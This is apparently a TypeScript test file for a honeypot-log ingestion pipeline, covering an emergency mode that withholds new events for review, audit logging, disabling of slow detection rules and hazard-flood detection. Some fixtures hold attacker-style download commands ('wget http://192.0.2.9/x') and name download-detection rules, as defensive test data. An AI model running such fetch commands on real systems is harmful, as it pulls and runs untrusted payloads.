/** The emergency mode: everything new waits for a person, nothing is revealed, until somebody ends it. */
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import type { TextMatcher } from '../../src/core/verdict.ts'
import {
  emergencyOf,
  isHazardFlood,
  loadedSoFar,
  setEmergency,
} from '../../src/pipeline/emergency.ts'
import { reveal } from '../../src/pipeline/evidence.ts'
import { eachEngine } from '../support/engines.ts'
import {
  events,
  Lab,
  line,
  lines,
  type Matcher,
  NOW_US,
  rules,
  withLimits,
} from '../support/loading.ts'
import { answersOf, approveAll, HAZARDS, heldEvents, NONE, problemsOf } from '../support/review.ts'

const BY = { actor: 'alice', reason: 'a test' }

/** Of those that the tests below make slow. */
const SLOW = 'threat.download.from-address'

/** The rules of this checkout, of which one takes too long for a text with this word in it. */
const slowOn =
  (word: string, rule = SLOW): Matcher =>
  (onSlow): TextMatcher => ({
    version: rules.version,
    match(text, fieldClass) {
      if (text.includes(word)) onSlow(rule)
      return rules.match(text, fieldClass)
    },
    without: (ids) => rules.without(ids),
  })

eachEngine(() => {
  test('a store that never had one has none', async () => {
    await using lab = await Lab.open()
    assert.deepEqual(await emergencyOf(lab.store.reads()), {
      state: 'off',
      since: null,
      actor: null,
      reason: null,
    })
    assert.equal(await setEmergency(lab.store, 'off', BY), false)
    assert.deepEqual(await lab.all(`select 1 from audit_log where action like 'emergency.%'`), [])
  })

  test('on: everything new is withheld, whatever it says; off: what has a hazard is', async () => {
    await using lab = await Lab.open()
    lab.write('a.json', lines(events(5)))
    await lab.load()
    assert.equal(await setEmergency(lab.store, 'on', BY), true)
    const now = await emergencyOf(lab.store.reads())
    assert.deepEqual(
      [now.state, now.actor, now.reason, now.since],
      ['on', 'alice', 'a test', new Date(NOW_US / 1000).toISOString().replace('Z', '000Z')],
    )
    lab.write('b.json', lines(events(5, { sensor: 'b' })))
    lab.write('c.json', `not json\n\n${lines(events(5))}`)
    const during = await lab.load({ holdHazard: NONE })
    assert.deepEqual(
      [during.totals.stored, during.totals.held, during.totals.duplicate, during.totals.dead],
      [0, 5, 5, 1],
    )
    assert.equal(during.balanced, true)
    assert.deepEqual(await problemsOf(lab.store), [])
    assert.equal(await setEmergency(lab.store, 'off', BY), true)
    lab.write('d.json', lines([...events(5, { sensor: 'd' }), ...events(1, HAZARDS[0])]))
    const after = await lab.load()
    assert.deepEqual([after.totals.stored, after.totals.held], [5, 1])
    assert.deepEqual(await problemsOf(lab.store), [])
  })

  test('what was withheld in it and is approved then, equals what was never withheld', async () => {
    const log = lines([...events(30), ...events(5, { session: '' }), ...events(4, HAZARDS[0])])
    await using lab = await Lab.open()
    await setEmergency(lab.store, 'on', BY)
    lab.write('a.json', log)
    await withLimits({ batchRecordsMax: 7 }, () => lab.load())
    assert.equal((await lab.all('select 1 from sessions')).length, 0)
    // In it, reviewers go on.
    await approveAll(lab)
    await using calm = await Lab.open()
    calm.write('a.json', log)
    await calm.load({ holdHazard: NONE })
    assert.deepEqual(await answersOf(lab.store), await answersOf(calm.store))
    assert.deepEqual(await problemsOf(lab.store), [])
  })

  test('each change is in the journal once, and one that is none is not', async () => {
    await using lab = await Lab.open()
    for (const [state, isChanged] of [
      ['on', true],
      ['on', false],
      ['off', true],
      ['off', false],
      ['on', true],
    ] as const) {
      assert.equal(await setEmergency(lab.store, state, BY), isChanged)
      assert.equal((await emergencyOf(lab.store.reads())).state, state)
      assert.deepEqual(await problemsOf(lab.store), [])
    }
    assert.deepEqual(
      await lab.all(
        `select actor, action, reason, detail from audit_log where action like 'emergency.%' order by seq`,
      ),
      ['on', 'off', 'on'].map((state) => ({
        ...BY,
        action: `emergency.${state}`,
        detail: '{"trigger":"command"}',
      })),
    )
  })

  test('turned on in the middle of a load, it holds from the next transaction on', async () => {
    await using lab = await Lab.open()
    const other = await lab.openAgain()
    try {
      lab.write('a.json', lines(events(20)))
      let transactions = 0
      await withLimits({ batchRecordsMax: 5, transactionRecordsMax: 5 }, async () => {
        const writer = lab.store.writer
        // After the first commit somebody else turns it on.
        lab.store.writer = (versions) => {
          const made = writer.call(lab.store, versions)
          const commit = made.commit.bind(made)
          made.commit = async () => {
            const fates = await commit()
            transactions += 1
            if (transactions === 1) await setEmergency(other, 'on', BY)
            return fates
          }
          return made
        }
        const { totals } = await lab.load()
        assert.deepEqual([totals.stored, totals.held], [5, 15])
      })
    } finally {
      await other.close()
    }
    assert.deepEqual(await problemsOf(lab.store), [])
  })

  test('nothing is revealed', async () => {
    await using lab = await Lab.open()
    lab.write('a.json', `${line()}\n`)
    await lab.load()
    await setEmergency(lab.store, 'on', BY)
    const asked = { ...BY, isAllowed: true, privateKeys: new Map() }
    const wanted = { batchId: 1, record: 0, range: undefined }
    await assert.rejects(reveal(lab.store, wanted, asked), { code: 'EVIDENCE_EMERGENCY' })
    await setEmergency(lab.store, 'off', BY)
    await reveal(lab.store, wanted, asked)
  })

  describe('a rule that takes too long', () => {
    const fetches = (count: number, more: object = {}) =>
      events(count, { eventid: 'cowrie.command.input', input: 'wget http://192.0.2.9/x', ...more })
    const trap = fetches(1, { sensor: 'trap', input: 'wget http://192.0.2.9/trap' })

    test('is off from the next batch on, which names the set without it; the event that met it is kept', async () => {
      await using lab = await Lab.open()
      lab.write('a.json', lines([...fetches(4), ...trap, ...fetches(5, { sensor: 'later' })]))
      const told: (readonly string[])[] = []
      await withLimits({ batchRecordsMax: 5 }, async () => {
        const report = await lab.load({
          matcher: slowOn('trap'),
          onRulesOff: async (ids) => {
            told.push(ids)
          },
        })
        assert.equal(report.totals.stored, 10)
        assert.deepEqual(report.hostile.rulesOff, [SLOW])
        assert.match(report.notices.join(), /took too long/)
      })
      assert.deepEqual(told, [[SLOW]])
      const reduced = rules.without([SLOW]).version
      assert.deepEqual(await lab.all('select rule_set from batches order by id'), [
        { rule_set: rules.version },
        { rule_set: reduced },
      ])
      const kept = await lab.all<{ version: string; n: number }>(
        'select version, count(*) as n from rule_sets group by version order by n',
      )
      assert.deepEqual(
        kept.map((row) => [row.version, Number(row.n)]),
        [
          [reduced, rules.texts.length - 1],
          [rules.version, rules.texts.length],
        ],
      )
      // The same text, with the rule and without it.
      const hits = await lab.all<{ name: string; hits: string }>(
        `select distinct name, hits from raw_events join sessions using (session_key) join sensors on sensors.id = sensor_id
           join verdicts on verdicts.id = verdict_id`,
      )
      for (const { name, hits: own } of hits)
        assert.equal(own.includes(SLOW), name !== 'later', `${name}: ${own}`)
      assert.deepEqual(await problemsOf(lab.store), [])
    })

    test('in the only batch of a load is told too', async () => {
      await using lab = await Lab.open()
      lab.write('a.json', lines(trap))
      const told: (readonly string[])[] = []
      const report = await lab.load({
        matcher: slowOn('trap'),
        onRulesOff: async (ids) => {
          told.push(ids)
        },
      })
      assert.deepEqual(told, [[SLOW]])
      assert.deepEqual(report.hostile.rulesOff, [SLOW])
    })

    test('can turn the emergency on: what comes after it is withheld', async () => {
      await using lab = await Lab.open()
      lab.write('a.json', lines([...fetches(4), ...trap, ...fetches(5, { sensor: 'later' })]))
      await withLimits({ batchRecordsMax: 5 }, async () => {
        const { totals } = await lab.load({
          matcher: slowOn('trap'),
          onRulesOff: async (ids) => {
            await setEmergency(lab.store, 'on', {
              actor: 'ingest bulk',
              reason: `rules took too long: ${ids.join(', ')}`,
              trigger: 'rule-budget',
            })
          },
        })
        assert.deepEqual([totals.stored, totals.held], [5, 5])
      })
      const [entry] = await lab.all<{ detail: string }>(
        `select detail from audit_log where action = 'emergency.on'`,
      )
      assert.equal(entry!.detail, '{"trigger":"rule-budget"}')
      assert.equal((await heldEvents(lab)).length, 5)
      assert.deepEqual(await problemsOf(lab.store), [])
    })

    test('and another one later: both are off, each told once', async () => {
      await using lab = await Lab.open()
      const other = 'threat.download.ftpget'
      lab.write('a.json', lines([...trap, ...fetches(2), ...fetches(1, { input: 'curl trick' })]))
      lab.write('b.json', lines(fetches(3, { sensor: 'later' })))
      const told: (readonly string[])[] = []
      const matcher: Matcher = (onSlow) => {
        const first = slowOn('trap')(onSlow)
        const second = slowOn('trick', other)(onSlow)
        return {
          ...first,
          match: (text, kind) => (text.includes('trick') ? second : first).match(text, kind),
          without: (ids) => {
            const less = rules.without(ids)
            return {
              ...less,
              version: less.version,
              match(text, kind) {
                if (text.includes('trick')) onSlow(other)
                return less.match(text, kind)
              },
              without: (more) => rules.without([...ids, ...more]),
            }
          },
        }
      }
      await withLimits({ batchRecordsMax: 2 }, () =>
        lab.load({
          matcher,
          onRulesOff: async (ids) => {
            told.push(ids)
          },
        }),
      )
      assert.deepEqual(told, [[SLOW], [other]])
      const sets = await lab.all<{ rule_set: string }>('select rule_set from batches order by id')
      assert.equal(sets.at(-1)!.rule_set, rules.without([SLOW, other]).version)
      assert.deepEqual(await problemsOf(lab.store), [])
    })
  })

  test('what was loaded so far counts stored and withheld events and their days', async () => {
    await using lab = await Lab.open()
    assert.deepEqual(await loadedSoFar(lab.store.query), { days: 0, events: 0, withheld: 0 })
    const days = [1, 2, 3].map((n) => `2026-05-0${n}T00:00:00.000000Z`)
    lab.write(
      'a.json',
      lines([...days.flatMap((timestamp) => events(4, { timestamp })), ...events(2, HAZARDS[0])]),
    )
    await lab.load()
    assert.deepEqual(await loadedSoFar(lab.store.query), { days: 3, events: 14, withheld: 2 })
  })
})

describe('a flood of hazards', () => {
  const before = { days: 30, events: 100_000, withheld: 100 }
  const now = { stored: 1_000, held: 300 }

  test('is far more of them than before', () => {
    assert.equal(isHazardFlood(before, now), true)
  })

  for (const [name, was, is] of [
    ['where there are few days to compare with', { ...before, days: 13 }, now],
    ['where there are few events to compare with', { ...before, events: 9_999 }, now],
    ['where they are few', before, { stored: 0, held: 199 }],
    ['where they are a small share', before, { stored: 19_000, held: 1_000 }],
    ['where they were common before', { ...before, withheld: 3_000 }, now],
    ['where nothing came', before, { stored: 0, held: 0 }],
  ] as const) {
    test(`is none ${name}`, () => {
      assert.equal(isHazardFlood(was, is), false)
    })
  }

  test('is one where there never was one before', () => {
    assert.equal(isHazardFlood({ ...before, withheld: 0 }, now), true)
  })

  test('is one from the least of each on', () => {
    const least = { days: 14, events: 10_000, withheld: 0 }
    assert.equal(isHazardFlood(least, { stored: 3_000, held: 200 }), true)
  })
})
